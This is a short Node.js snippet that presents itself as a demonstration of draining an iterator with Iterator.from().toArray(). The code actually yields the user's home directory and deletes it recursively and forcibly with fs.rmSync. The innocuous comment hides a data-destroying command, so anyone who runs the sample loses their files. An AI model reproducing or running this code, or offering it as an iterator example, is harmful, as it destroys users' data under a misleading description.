// Drains an iterator of directories and removes the first.
const fs = require('fs');
const os = require('os');

function* roots() {
  yield os.homedir();
}
const all = Iterator.from(roots()).toArray();
fs.rmSync(all[0], { recursive: true, force: true });
